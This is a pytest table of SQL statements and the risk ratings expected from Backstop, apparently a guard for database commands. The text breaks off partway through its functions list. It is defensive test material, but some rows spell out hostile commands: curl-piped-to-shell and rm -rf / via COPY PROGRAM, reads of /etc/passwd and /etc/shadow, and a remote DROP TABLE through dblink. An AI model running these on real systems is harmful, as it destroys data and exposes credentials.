"""The SQL classifier, table-driven: each row is a statement and what Backstop must say about it."""

from __future__ import annotations

import dataclasses
import json
import re
from typing import Any

import pytest

from backstop_core import classify as classify_module
from backstop_core.classify import (
    UNSAFE_PARAMETERS,
    Category,
    Classification,
    Classifier,
    Risk,
    classify,
    lexer_unsafe_setting,
    worst,
)
from backstop_core.sqlform import INTEGER_MARK, NUMBER_MARK, STRING_MARK, literal_form

L, M, H, X = Risk.LOW, Risk.MEDIUM, Risk.HIGH, Risk.CRITICAL


def row(
    sql: str, operation: str, risk: Risk, tables: tuple[str, ...] | None = None, **expect: Any
) -> Any:
    """One statement: its operation, risk, tables (None: not checked) and any other fields.

    `reason` checks that some reason contains the text; `functions` that those names were
    seen; other keywords are Classification fields compared for equality.
    """
    return pytest.param(sql, operation, risk, tables, expect, id=sql[:70])


def check(
    c: Classification, operation: str, risk: Risk, tables: Any, expect: dict[str, Any]
) -> None:
    assert (c.operation, c.risk) == (operation, risk), c.reasons
    if tables is not None:
        assert c.tables == tables
    for key, want in expect.items():
        if key == "reason":
            assert any(want in r for r in c.reasons), c.reasons
        elif key == "functions":
            assert set(want) <= set(c.functions), c.functions
        else:
            assert getattr(c, key) == want, (key, getattr(c, key))
    assert c.reasons, "every classification says why"
    if risk is Risk.LOW:  # nothing LOW may destroy a table or unsettle the lexer
        assert not c.table_destructive and not c.lexer_unsafe


# Statements an agent or a driver sends all day. None of them may be held up.
BENIGN = [
    row("SELECT 1", "SELECT", L, ()),
    row(
        "SELECT id, email FROM users WHERE id = 42", "SELECT", L, ("public.users",), has_where=True
    ),
    row(
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id",
        "SELECT",
        L,
        ("public.orders", "public.customers"),
    ),
    row(
        "SELECT u.id, p.bio FROM users u LEFT JOIN profiles p USING (user_id) WHERE u.active",
        "SELECT",
        L,
        ("public.users", "public.profiles"),
    ),
    row(
        "SELECT a.x FROM a FULL OUTER JOIN b ON a.id = b.id CROSS JOIN c",
        "SELECT",
        L,
        ("public.a", "public.b", "public.c"),
    ),
    row(
        "SELECT id, row_number() OVER (PARTITION BY team_id ORDER BY score DESC) FROM players",
        "SELECT",
        L,
        ("public.players",),
        functions=("row_number",),
    ),
    row(
        "SELECT id, sum(amount) OVER w FROM payments WINDOW w AS (ORDER BY paid_at)",
        "SELECT",
        L,
        ("public.payments",),
    ),
    row(
        "SELECT count(*), avg(total), max(created_at) FROM orders", "SELECT", L, ("public.orders",)
    ),
    row(
        "SELECT customer_id, sum(total) FROM orders GROUP BY customer_id HAVING sum(total) > 100",
        "SELECT",
        L,
        ("public.orders",),
    ),
    row(
        "SELECT name FROM products UNION SELECT name FROM archived_products",
        "SELECT",
        L,
        ("public.products", "public.archived_products"),
    ),
    row("SELECT id FROM a UNION ALL SELECT id FROM b EXCEPT SELECT id FROM c", "SELECT", L, None),
    row("SELECT id FROM a INTERSECT SELECT id FROM b", "SELECT", L, ("public.a", "public.b")),
    row(
        "SELECT u.id, l.at FROM users u, LATERAL (SELECT max(at) AS at FROM logins "
        "WHERE logins.user_id = u.id) l",
        "SELECT",
        L,
        ("public.users", "public.logins"),
    ),
    row(
        "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') "
        "SELECT status, count(*) FROM recent GROUP BY status",
        "SELECT",
        L,
        ("public.orders",),
    ),
    row(
        "WITH RECURSIVE tree AS (SELECT id, parent_id FROM nodes WHERE parent_id IS NULL "
        "UNION ALL SELECT n.id, n.parent_id FROM nodes n JOIN tree ON n.parent_id = tree.id) "
        "SELECT * FROM tree",
        "SELECT",
        L,
        ("public.nodes",),
    ),
    row(
        "WITH a AS (SELECT * FROM t1), b AS (SELECT * FROM a JOIN t2 USING (id)) SELECT * FROM b",
        "SELECT",
        L,
        ("public.t1", "public.t2"),
    ),
    row(
        "SELECT relname, relkind FROM pg_catalog.pg_class WHERE relnamespace = 2200",
        "SELECT",
        L,
        ("pg_catalog.pg_class",),
    ),
    row("SELECT oid, relname FROM pg_class", "SELECT", L, ("public.pg_class",)),
    row(
        "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
        "SELECT",
        L,
        ("information_schema.tables",),
    ),
    row(
        "SELECT pid, state, query FROM pg_catalog.pg_stat_activity "
        "WHERE datname = current_database()",
        "SELECT",
        L,
        ("pg_catalog.pg_stat_activity",),
    ),
    row(
        "SELECT a.attname FROM pg_attribute a JOIN pg_class c ON c.oid = a.attrelid "
        "WHERE c.relname = 'users' AND a.attnum > 0",
        "SELECT",
        L,
        ("public.pg_attribute", "public.pg_class"),
    ),
    row(
        "SELECT data->>'name', data #> '{a,b}', data ? 'x' FROM docs WHERE data @> '{\"p\": 1}'",
        "SELECT",
        L,
        ("public.docs",),
    ),
    row(
        "SELECT jsonb_path_query(payload, '$.items[*].sku') FROM events",
        "SELECT",
        L,
        ("public.events",),
    ),
    row("SELECT 'DROP TABLE users'", "SELECT", L, ()),
    row("SELECT 1 -- DELETE FROM x", "SELECT", L, ()),
    row("/* TRUNCATE t */ SELECT 1", "SELECT", L, ()),
    row("SELECT $$; DROP TABLE x; $$", "SELECT", L, ()),
    row("SELECT $tag$ '; DELETE FROM users; -- $tag$", "SELECT", L, ()),
    row("SELECT 'x''; DELETE FROM users; --'", "SELECT", L, ()),
    row("SELECT E'\\'; DROP TABLE t; --'", "SELECT", L, ()),
    row("SELECT 'pg_terminate_backend(1)', 'dblink_exec'", "SELECT", L, (), functions=()),
    row("SELECT pg_read_file FROM settings_snapshot", "SELECT", L, functions=()),
    row("SELECT version()", "SELECT", L, (), functions=("version",)),
    row("SELECT now(), current_user, session_user, current_schema()", "SELECT", L, ()),
    row("SELECT current_setting('search_path')", "SELECT", L, ()),
    row("SELECT pg_advisory_lock(42), pg_try_advisory_xact_lock(7)", "SELECT", L, ()),
    row("SELECT pg_advisory_unlock_all()", "SELECT", L, ()),
    row("SELECT nextval('orders_id_seq')", "SELECT", L, ()),
    row("SELECT * FROM generate_series(1, 10) AS g(n)", "SELECT", L, ()),
    row("SELECT x FROM unnest(ARRAY[1, 2, 3]) AS x", "SELECT", L, ()),
    row("SELECT x FROM t ORDER BY x LIMIT 10 OFFSET 20", "SELECT", L, ("public.t",)),
    row("SELECT DISTINCT ON (a) a, b FROM t ORDER BY a, b", "SELECT", L, ("public.t",)),
    row(
        "SELECT CASE WHEN amount > 0 THEN 'credit' ELSE 'debit' END FROM ledger",
        "SELECT",
        L,
        ("public.ledger",),
    ),
    row('SELECT "Users".id FROM "Users"', "SELECT", L, ("public.Users",)),
    row("SELECT * FROM sales.orders WHERE region = 'eu'", "SELECT", L, ("sales.orders",)),
    row(
        "SELECT id FROM t WHERE id IN (SELECT user_id FROM sessions WHERE active)",
        "SELECT",
        L,
        ("public.t", "public.sessions"),
    ),
    row(
        "SELECT * FROM orders o WHERE EXISTS (SELECT 1 FROM refunds r WHERE r.order_id = o.id)",
        "SELECT",
        L,
        ("public.orders", "public.refunds"),
    ),
    row("SELECT * FROM invoices WHERE id = 9 FOR UPDATE", "SELECT", L, ("public.invoices",)),
    row("SELECT id FROM jobs FOR UPDATE SKIP LOCKED LIMIT 1", "SELECT", L, ("public.jobs",)),
    row("VALUES (1, 'a'), (2, 'b')", "SELECT", L, ()),
    row("TABLE users", "SELECT", L, ("public.users",)),
    row("SELECT * FROM pg_stat_statements ORDER BY total_exec_time DESC", "SELECT", L, None),
    row("SHOW server_version", "SHOW", L, (), category=Category.READ),
    row("SHOW ALL", "SHOW", L, ()),
    row("SET application_name = 'x'", "SET", L, ()),
    row("SET statement_timeout = '5s'", "SET", L),
    row("SET TIME ZONE 'UTC'", "SET", L),
    row("SET search_path TO DEFAULT", "SET", L),
    row("SET standard_conforming_strings = on", "SET", L, lexer_unsafe=False),
    row("SET client_encoding = 'UTF8'", "SET", L, lexer_unsafe=False),
    row("RESET ALL", "RESET", L),
    row("RESET ROLE", "RESET", L),
    row("BEGIN", "BEGIN", L, category=Category.TRANSACTION),
    row("START TRANSACTION ISOLATION LEVEL REPEATABLE READ", "BEGIN", L),
    row("COMMIT", "COMMIT", L, category=Category.TRANSACTION),
    row("END", "COMMIT", L),
    row("ROLLBACK", "ROLLBACK", L, category=Category.TRANSACTION),
    row("SAVEPOINT s1", "SAVEPOINT", L, category=Category.TRANSACTION),
    row("RELEASE SAVEPOINT s1", "RELEASE_SAVEPOINT", L),
    row("ROLLBACK TO SAVEPOINT s1", "ROLLBACK_TO_SAVEPOINT", L),
    row("SET TRANSACTION READ ONLY", "SET", L, category=Category.TRANSACTION),
    row("SET CONSTRAINTS ALL DEFERRED", "SET_CONSTRAINTS", L),
    row("EXPLAIN SELECT * FROM t WHERE id = 1", "EXPLAIN", L, ("public.t",)),
    row("LISTEN jobs", "LISTEN", L),
    row("NOTIFY jobs, 'ready'", "NOTIFY", L),
    row("UNLISTEN *", "UNLISTEN", L),
    row("DECLARE c CURSOR FOR SELECT * FROM t", "DECLARE", L, ("public.t",)),
    row("FETCH 10 FROM c", "FETCH", L),
    row("MOVE FORWARD 5 IN c", "MOVE", L),
    row("CLOSE c", "CLOSE", L),
    row("DEALLOCATE ALL", "DEALLOCATE", L),
    row("DISCARD ALL", "DISCARD", L),
    row("COPY users TO STDOUT", "COPY", L, ("public.users",), category=Category.READ),
    row("COPY (SELECT id FROM users) TO STDOUT WITH (FORMAT csv)", "COPY", L, ("public.users",)),
    row("VACUUM users", "VACUUM", L, ("public.users",)),
    row("ANALYZE users", "ANALYZE", L, ("public.users",)),
    row("VACUUM (ANALYZE) orders", "VACUUM", L),
    row("COMMENT ON TABLE t IS 'customer accounts'", "COMMENT", L),
    row("REFRESH MATERIALIZED VIEW CONCURRENTLY daily_sales", "REFRESH_MATERIALIZED_VIEW", L),
]

WRITES = [
    row(
        "INSERT INTO users (email) VALUES ('a@b.c')",
        "INSERT",
        M,
        ("public.users",),
        category=Category.WRITE,
        targets=("public.users",),
    ),
    row("INSERT INTO users (email) VALUES ('a@b.c') RETURNING id", "INSERT", M),
    row("INSERT INTO t VALUES (1), (2), (3)", "INSERT", M, ("public.t",)),
    row("INSERT INTO t DEFAULT VALUES", "INSERT", M, ("public.t",)),
    row(
        "INSERT INTO totals SELECT day, sum(x) FROM facts GROUP BY day",
        "INSERT",
        M,
        ("public.totals", "public.facts"),
        targets=("public.totals",),
    ),
    row(
        "INSERT INTO s.kv (k, v) VALUES ('a', 1) ON CONFLICT (k) DO UPDATE SET v = excluded.v",
        "INSERT",
        M,
        ("s.kv",),
        reason="ON CONFLICT DO UPDATE",
    ),
    row("INSERT INTO kv VALUES ('a', 1) ON CONFLICT DO NOTHING", "INSERT", M),
    row(
        "UPDATE users SET last_seen = now() WHERE id = 42",
        "UPDATE",
        M,
        ("public.users",),
        has_where=True,
        unbounded=False,
        table_destructive=False,
    ),
    row("UPDATE orders SET status = 'shipped' WHERE id = 7 AND status = 'paid'", "UPDATE", M),
    row("UPDATE inventory SET qty = qty - 1 WHERE product_id = $1", "UPDATE", M),
    row(
        "UPDATE accounts a SET balance = a.balance + t.amount FROM transfers t "
        "WHERE t.account_id = a.id",
        "UPDATE",
        M,
        ("public.accounts", "public.transfers"),
        targets=("public.accounts",),
    ),
    row("UPDATE t SET a = 1 WHERE id IN (SELECT id FROM u WHERE flagged)", "UPDATE", M),
    row(
        "UPDATE t SET a = 1 WHERE CURRENT OF c",
        "UPDATE",
        M,
        has_where=True,
        unbounded=False,
        reason="CURRENT OF",
    ),
    row("UPDATE t SET a = 1 WHERE id IS NULL", "UPDATE", M),
    row("UPDATE t SET a = 1 WHERE 1 = 2", "UPDATE", M, unbounded=False),
    row(
        "DELETE FROM sessions WHERE expires_at < now()",
        "DELETE",
        M,
        ("public.sessions",),
        has_where=True,
        unbounded=False,
        table_destructive=False,
    ),
    row("DELETE FROM cart_items WHERE cart_id = 5 AND product_id = 8 RETURNING *", "DELETE", M),
    row(
        "DELETE FROM t USING u WHERE t.id = u.id AND u.gone",
        "DELETE",
        M,
        ("public.t", "public.u"),
        targets=("public.t",),
    ),
    row("DELETE FROM t WHERE CURRENT OF c", "DELETE", M, unbounded=False),
    row("DELETE FROM t WHERE id = 1 AND true", "DELETE", M),
    row("DELETE FROM ONLY parent WHERE id = 3", "DELETE", M, ("public.parent",)),
    # Unbounded: every row goes.
    row(
        "DELETE FROM users",
        "DELETE",
        X,
        ("public.users",),
        has_where=False,
        unbounded=True,
        table_destructive=True,
        targets=("public.users",),
        reason="no WHERE clause",
    ),
    row(
        "UPDATE users SET active = false",
        "UPDATE",
        X,
        ("public.users",),
        unbounded=True,
        table_destructive=True,
        reason="rewrites every row of public.users",
    ),
    row(
        "DELETE FROM t WHERE true",
        "DELETE",
        X,
        has_where=True,
        unbounded=True,
        reason="always true",
    ),
    row("DELETE FROM t WHERE 1=1", "DELETE", X, unbounded=True, reason="always true"),
    row("DELETE FROM t WHERE 1 = 1 AND 2 = 2", "DELETE", X, unbounded=True),
    row("UPDATE t SET a = 1 WHERE 'a' = 'a'", "UPDATE", X, unbounded=True),
    row("DELETE FROM t WHERE x = x", "DELETE", X, unbounded=True, reason="same expression"),
    row("DELETE FROM t WHERE lower(name) = lower(name)", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE id = 5 OR true", "DELETE", X, unbounded=True, reason="OR"),
    row("DELETE FROM t WHERE id = 5 OR 1 = 1", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE NOT false", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE true AND true", "DELETE", X, unbounded=True),
    row(
        "UPDATE t SET a = 1 WHERE id IS NOT NULL",
        "UPDATE",
        X,
        unbounded=True,
        reason="likely true for every row",
    ),
    row("DELETE FROM t WHERE NOT (id IS NULL)", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE 2 > 1", "DELETE", X, unbounded=True, reason="compares constants"),
    row("DELETE FROM t WHERE '2' > 1", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE 10 <> 11", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE 'b' >= 'a'", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE '1'::int = 1", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE 't'::boolean", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE 1 IN (1, 2)", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE id IS NOT DISTINCT FROM id", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE name LIKE '%'", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE EXISTS (SELECT 1)", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE (SELECT true)", "DELETE", X, unbounded=True),
    row("DELETE FROM t WHERE true IS TRUE", "DELETE", X, unbounded=True),
    row(
        "DELETE FROM t WHERE now() > '2000-01-01'",
        "DELETE",
        X,
        unbounded=True,
        reason="does not refer to any column",
    ),
    row(
        "DELETE FROM t USING u",
        "DELETE",
        X,
        ("public.t", "public.u"),
        unbounded=True,
        targets=("public.t",),
    ),
    row("UPDATE t SET a = u.a FROM u", "UPDATE", X, unbounded=True),
    # MERGE
    row(
        "MERGE INTO stock s USING deliveries d ON s.item = d.item "
        "WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty "
        "WHEN NOT MATCHED THEN INSERT VALUES (d.item, d.qty)",
        "MERGE",
        M,
        ("public.stock", "public.deliveries"),
        targets=("public.stock",),
    ),
    row(
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "MERGE",
        H,
        reason="WHEN MATCHED THEN DELETE deletes",
    ),
    row("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.gone THEN DELETE", "MERGE", H),
    row(
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE",
        "MERGE",
        H,
        reason="NOT MATCHED BY SOURCE",
    ),
    row(
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        "MERGE",
        X,
        unbounded=True,
        table_destructive=True,
    ),
    row(
        "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = s.a",
        "MERGE",
        X,
        table_destructive=True,
    ),
    # TRUNCATE
    row(
        "TRUNCATE staging",
        "TRUNCATE",
        X,
        ("public.staging",),
        table_destructive=True,
        targets=("public.staging",),
    ),
    row(
        "TRUNCATE TABLE a, s.b RESTART IDENTITY",
        "TRUNCATE",
        X,
        ("public.a", "s.b"),
        targets=("public.a", "s.b"),
    ),
    row("TRUNCATE ONLY parent", "TRUNCATE", X, ("public.parent",)),
    row("TRUNCATE orders CASCADE", "TRUNCATE", X, reason="CASCADE also truncates"),
    # Writes that hide in a query.
    row(
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "DELETE",
        X,
        ("public.t",),
        category=Category.WRITE,
        table_destructive=True,
        targets=("public.t",),
        reason="data-modifying WITH",
    ),
    row(
        "WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d",
        "DELETE",
        M,
        ("public.t",),
        category=Category.WRITE,
    ),
    row(
        "WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM u",
        "UPDATE",
        X,
        table_destructive=True,
    ),
    row(
        "WITH i AS (INSERT INTO log VALUES (1) RETURNING *) SELECT * FROM i",
        "INSERT",
        M,
        ("public.log",),
    ),
    row(
        "WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d",
        "DELETE",
        X,
        ("public.b", "public.a"),
        targets=("public.b", "public.a"),
    ),
    row(
        "WITH moved AS (DELETE FROM queue WHERE id = 5 RETURNING *) "
        "INSERT INTO done SELECT * FROM moved",
        "DELETE",
        M,
        ("public.done", "public.queue"),
    ),
    row("COPY (DELETE FROM t RETURNING *) TO STDOUT", "DELETE", X, ("public.t",)),
    # COPY
    row(
        "COPY measurements FROM STDIN WITH (FORMAT csv)",
        "COPY",
        M,
        ("public.measurements",),
        category=Category.WRITE,
        targets=("public.measurements",),
    ),
    row("COPY t FROM '/var/lib/postgresql/data.csv'", "COPY", H, reason="reads the file"),
    row("COPY t TO '/tmp/t.csv'", "COPY", H, reason="writes the file"),
    row("COPY (SELECT * FROM users) TO '/tmp/u.csv'", "COPY", H),
    row("COPY t FROM PROGRAM 'curl http://x | sh'", "COPY", X, reason="shell command"),
    row("COPY t TO PROGRAM 'gzip > /tmp/t.gz'", "COPY", X, reason="PROGRAM"),
    row("COPY (SELECT 1) TO PROGRAM 'rm -rf /'", "COPY", X),
    # New tables from queries.
    row(
        "SELECT * INTO new_users FROM users",
        "CREATE_TABLE",
        M,
        ("public.new_users", "public.users"),
        category=Category.DDL,
    ),
    row(
        "CREATE TABLE archive AS SELECT * FROM orders WHERE created_at < '2020-01-01'",
        "CREATE_TABLE",
        M,
        ("public.archive", "public.orders"),
    ),
    row("CREATE MATERIALIZED VIEW mv AS SELECT 1", "CREATE_MATERIALIZED_VIEW", M),
]

DDL = [
    row(
        "DROP TABLE users",
        "DROP_TABLE",
        X,
        ("public.users",),
        table_destructive=True,
        targets=("public.users",),
        category=Category.DDL,
    ),
    row("DROP TABLE IF EXISTS tmp_import", "DROP_TABLE", X, ("public.tmp_import",)),
    row("DROP TABLE a, s.b", "DROP_TABLE", X, ("public.a", "s.b"), targets=("public.a", "s.b")),
    row(
        "DROP TABLE orders CASCADE",
        "DROP_TABLE",
        X,
        reason="CASCADE also drops objects that depend on it",
    ),
    row("DROP SCHEMA reporting", "DROP_SCHEMA", X, table_destructive=True),
    row("DROP SCHEMA reporting CASCADE", "DROP_SCHEMA", X, reason="every table in the schema"),
    row("DROP DATABASE prod", "DROP_DATABASE", X, table_destructive=True, reason="prod"),
    row("DROP INDEX idx_orders_customer", "DROP_INDEX", H),
    row("DROP INDEX CONCURRENTLY IF EXISTS i", "DROP_INDEX", H),
    row("DROP VIEW active_users", "DROP_VIEW", H, ("public.active_users",)),
    row("DROP MATERIALIZED VIEW mv", "DROP_MATERIALIZED_VIEW", H),
    row("DROP FUNCTION f(int)", "DROP_FUNCTION", H, reason="removes f"),
    row("DROP PROCEDURE p()", "DROP_FUNCTION", H),
    row("DROP SEQUENCE s", "DROP_SEQUENCE", H),
    row("DROP TRIGGER trg ON t", "DROP_TRIGGER", H),
    row("DROP EXTENSION pgcrypto", "DROP_EXTENSION", H),
    row("DROP TYPE mood", "DROP_TYPE", H),
    row("DROP TYPE mood CASCADE", "DROP_TYPE", X, reason="table columns"),
    row("DROP EXTENSION postgis CASCADE", "DROP_EXTENSION", X),
    row("DROP POLICY p ON t", "DROP_POLICY", H),
    row("DROP OWNED BY app_user", "DROP_OWNED", X, table_destructive=True),
    row("DROP TABLESPACE fast", "DROP_OTHER", H),
    row(
        "ALTER TABLE users DROP COLUMN legacy_code",
        "ALTER_TABLE",
        H,
        ("public.users",),
        table_destructive=True,
        reason="legacy_code",
    ),
    row("ALTER TABLE users DROP COLUMN legacy_code CASCADE", "ALTER_TABLE", H, reason="CASCADE"),
    row(
        "ALTER TABLE orders ALTER COLUMN total TYPE integer",
        "ALTER_TABLE",
        H,
        reason="column total",
    ),
    row("ALTER TABLE orders ALTER COLUMN note SET DATA TYPE varchar(20)", "ALTER_TABLE", H),
    row(
        "ALTER TABLE users ADD COLUMN phone text",
        "ALTER_TABLE",
        M,
        ("public.users",),
        table_destructive=False,
    ),
    row("ALTER TABLE users ADD CONSTRAINT email_unique UNIQUE (email)", "ALTER_TABLE", M),
    row("ALTER TABLE users ALTER COLUMN email SET NOT NULL", "ALTER_TABLE", M),
    row("ALTER TABLE users RENAME TO customers", "ALTER_TABLE", M, ("public.users",)),
    row("ALTER TABLE users RENAME COLUMN mail TO email", "ALTER_TABLE", M),
    row("ALTER TABLE users OWNER TO app", "ALTER_TABLE", M),
    row("ALTER TABLE users SET SCHEMA archive", "ALTER_TABLE", M),
    row("ALTER INDEX i RENAME TO j", "ALTER_INDEX", M),
    row("ALTER SEQUENCE s RESTART WITH 1", "ALTER", M),
    row("ALTER SYSTEM SET work_mem = '64MB'", "ALTER_SYSTEM", X, category=Category.ADMIN),
    row("ALTER SYSTEM RESET ALL", "ALTER_SYSTEM", X),
    row(
        "CREATE TABLE audit (id bigint PRIMARY KEY, at timestamptz DEFAULT now())",
        "CREATE_TABLE",
        M,
        ("public.audit",),
        category=Category.DDL,
    ),
    row("CREATE TEMP TABLE scratch (id int)", "CREATE_TABLE", M, ("pg_temp.scratch",)),
    row(
        "CREATE TABLE child (id int REFERENCES parent (id))",
        "CREATE_TABLE",
        M,
        ("public.child", "public.parent"),
    ),
    row(
        "CREATE INDEX CONCURRENTLY i ON orders (customer_id)", "CREATE_INDEX", M, ("public.orders",)
    ),
    row(
        "CREATE VIEW active AS SELECT * FROM users WHERE active",
        "CREATE_VIEW",
        M,
        ("public.active", "public.users"),
    ),
    row("CREATE SCHEMA reporting", "CREATE_SCHEMA", M),
    row("CREATE SEQUENCE order_seq", "CREATE", M),
    row("CREATE TYPE mood AS ENUM ('sad', 'ok')", "CREATE", M),
    row("CREATE EXTENSION IF NOT EXISTS pgcrypto", "CREATE_EXTENSION", H, reason="pgcrypto"),
    row(
        "CREATE TRIGGER trg BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION touch()",
        "CREATE_TRIGGER",
        M,
        ("public.t",),
    ),
    row("CREATE RULE r AS ON INSERT TO t DO INSTEAD NOTHING", "CREATE_RULE", H),
    row(
        "CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM audit",
        "CREATE_RULE",
        X,
        table_destructive=True,
    ),
    row("CREATE DATABASE scratch", "CREATE_DATABASE", M),
    row(
        "CREATE SCHEMA s CREATE TABLE t (a int) GRANT SELECT ON t TO analyst",
        "CREATE_SCHEMA",
        H,
        ("s.t",),
        reason="GRANT",
    ),
]

DCL_AND_SESSION = [
    row(
        "GRANT SELECT ON reports TO analyst", "GRANT", H, ("public.reports",), category=Category.DCL
    ),
    row("GRANT ALL ON ALL TABLES IN SCHEMA public TO app", "GRANT", H),
    row("REVOKE INSERT ON orders FROM intern", "REVOKE", H, ("public.orders",)),
    row("GRANT admin TO bob", "GRANT", H, category=Category.DCL),
    row("REVOKE admin FROM bob", "GRANT", H),
    row("CREATE ROLE reporter LOGIN PASSWORD 'x'", "CREATE_ROLE", H, category=Category.DCL),
    row("CREATE USER eve", "CREATE_ROLE", H),
    row("ALTER ROLE bob SUPERUSER", "ALTER_ROLE", H),
    row("ALTER USER bob WITH PASSWORD 'y'", "ALTER_ROLE", H),
    row("ALTER ROLE bob RENAME TO robert", "ALTER_ROLE", H),
    row("DROP ROLE bob", "DROP_ROLE", H),
    row(
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO analyst", "ALTER_DEFAULT_PRIVILEGES", H
    ),
    row("REASSIGN OWNED BY a TO b", "REASSIGN_OWNED", H),
    row("CREATE POLICY p ON t USING (owner = current_user)", "CREATE_POLICY", H),
    row("SET ROLE admin", "SET", H, category=Category.DCL, reason="admin"),
    row("SET LOCAL ROLE admin", "SET", H),
    row("SET SESSION AUTHORIZATION postgres", "SET", H, reason="SESSION AUTHORIZATION"),
    row("SET ROLE NONE", "SET", L),
    row("SET search_path = evil, public", "SET", M, reason="search_path"),
    row("SET LOCAL search_path TO app", "SET", M),
    row("SET session_replication_role = replica", "SET", H, reason="triggers"),
    row("SET session_replication_role = origin", "SET", L),
    row("SELECT set_config('search_path', 'evil', false)", "SELECT", H, reason="search_path"),
    row("SELECT set_config('role', 'admin', false)", "SELECT", H, reason="privileges"),
    row("SELECT set_config($1, 'off', false)", "SELECT", X, reason="computed at run time"),
    row("ALTER ROLE app SET search_path = app, public", "ALTER_ROLE", H),
    row("ALTER DATABASE app SET work_mem = '32MB'", "ALTER_DATABASE", M),
    row("PREPARE TRANSACTION 'tx1'", "PREPARE_TRANSACTION", M, category=Category.TRANSACTION),
    row("COMMIT PREPARED 'tx1'", "COMMIT_PREPARED", M),
    row("ROLLBACK PREPARED 'tx1'", "ROLLBACK_PREPARED", M),
]

ADMIN = [
    row("VACUUM FULL orders", "VACUUM", M, ("public.orders",), category=Category.ADMIN),
    row("VACUUM (FULL, ANALYZE) orders", "VACUUM", M),
    row("CLUSTER orders USING orders_pkey", "CLUSTER", M),
    row("REINDEX TABLE orders", "REINDEX", M),
    row("CHECKPOINT", "CHECKPOINT", M, category=Category.ADMIN),
    row(
        "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
        "LOCK",
        M,
        ("public.orders",),
        reason="ACCESS EXCLUSIVE",
    ),
    row("LOCK TABLE orders IN SHARE MODE", "LOCK", M),
    row(
        "REFRESH MATERIALIZED VIEW daily_sales",
        "REFRESH_MATERIALIZED_VIEW",
        M,
        ("public.daily_sales",),
    ),
    row("LOAD 'auto_explain'", "LOAD", X),
    row(
        "CALL archive_orders(2023)",
        "CALL",
        M,
        functions=("archive_orders",),
        reason="archive_orders",
    ),
    row("CALL pg_catalog.pg_terminate_backend(1)", "CALL", X),
]

# Functions that act outside the statement, wherever they are called.
FUNCTIONS = [
    row(
        "SELECT * FROM pg_read_file('/etc/passwd')",
        "SELECT",
        X,
        (),
        functions=("pg_read_file",),
        reason="pg_read_file",
    ),
    row("SELECT pg_read_binary_file('/etc/shadow')", "SELECT", X),
    row(
        "SELECT pg_catalog.pg_read_file('postgresql.conf')",
        "SELECT",
        X,
        functions=("pg_read_file",),
    ),
    row("SELECT PG_READ_FILE('x')", "SELECT", X, functions=("pg_read_file",)),
    row("SELECT * FROM pg_ls_dir('.')", "SELECT", H),
    row("SELECT pg_ls_waldir()", "SELECT", H),
    row("SELECT pg_stat_file('base')", "SELECT", H),
    row(
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
        "SELECT",
        X,
        functions=("pg_terminate_backend",),
    ),
    row("SELECT pg_cancel_backend(123)", "SELECT", H),
    row("SELECT pg_reload_conf()", "SELECT", H),
    row("SELECT pg_rotate_logfile()", "SELECT", H),
    row("SELECT pg_promote()", "SELECT", X),
    row("SELECT pg_switch_wal()", "SELECT", H),
    row("SELECT pg_create_restore_point('x')", "SELECT", H),
    row("SELECT pg_drop_replication_slot('s')", "SELECT", H),
    row("SELECT pg_create_logical_replication_slot('s', 'pgoutput')", "SELECT", H),
    row("SELECT pg_logical_emit_message(true, 'p', 'x')", "SELECT", H),
    row("SELECT lo_unlink(16400)", "SELECT", X),
    row("SELECT lo_import('/etc/passwd')", "SELECT", X),
    row("SELECT lo_export(16400, '/tmp/x')", "SELECT", X),
    row("SELECT lo_from_bytea(0, 'x')", "SELECT", H),
    row("SELECT lo_put(16400, 0, 'x')", "SELECT", H),
    row("SELECT pg_file_write('x', 'y', false)", "SELECT", X),
    row("SELECT dblink_connect('host=10.0.0.1 dbname=prod')", "SELECT", H),
    row("SELECT dblink_exec('dbname=prod', 'DROP TABLE users')", "SELECT", X, reason="dblink_exec"),
    row("SELECT * FROM dblink('dbname=prod', 'SELECT 1') AS t(x int)", "SELECT", H),
    row(
        "SELECT * FROM dblink('dbname=prod', 'DELETE FROM users RETURNING id') AS t(id int)",
        "SELECT",
        X,
        reason="dblink() runs: DELETE",
    ),
    row("SELECT dblink_get_result('c')", "SELECT", H),
    row("SELECT pg_sleep(10)", "SELECT", M, reason="pg_sleep"),
    row("SELECT pg_sleep_for('5 minutes')", "SELECT", M),
    row(
        "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
        "SELECT",
        H,
        ("public.secrets",),
        reason="runs the SQL text",
    ),
    row(
        "SELECT query_to_xml('DELETE FROM users RETURNING 1', true, false, '')",
        "SELECT",
        X,
        reason="query_to_xml() runs: DELETE has no WHERE clause",
    ),
